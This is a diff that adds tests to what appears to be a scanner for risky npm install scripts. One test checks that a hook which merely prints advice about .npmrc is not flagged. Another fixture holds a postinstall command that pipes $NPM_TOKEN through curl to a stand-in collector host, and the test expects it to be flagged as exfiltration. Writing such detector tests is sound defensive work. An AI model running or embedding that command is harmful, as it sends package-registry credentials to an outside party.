@@ -587,3 +587,16 @@ fi
     expect(ping.ids).not.toContain('hostBeacon');
   });
 });
+
+describe('install-scripts: words a hook prints are not files it reads', () => {
+  it("a preinstall that only prints advice naming .npmrc and fails on purpose is low (@lavamoat/preinstall-always-fail)", () => {
+    const r = run(fixture('preinstall-always-fail', { scripts: { preinstall: `echo "Don't run npm lifecycle scripts by default! Create a .yarnrc or .npmrc and set enableScripts: false." && exit 1` } }));
+    expect(r.ids).not.toContain('secretAccess');
+    expect(['none', 'low']).toContain(r.level);
+  });
+
+  it('echoing a token variable into a request is still reading the secret', () => {
+    const r = run(fixture('echo-token', { scripts: { postinstall: 'echo $NPM_TOKEN | curl -d @- https://collector.example/t' } }));
+    expect(r.ids).toContain('exfiltration');
+  });
+});
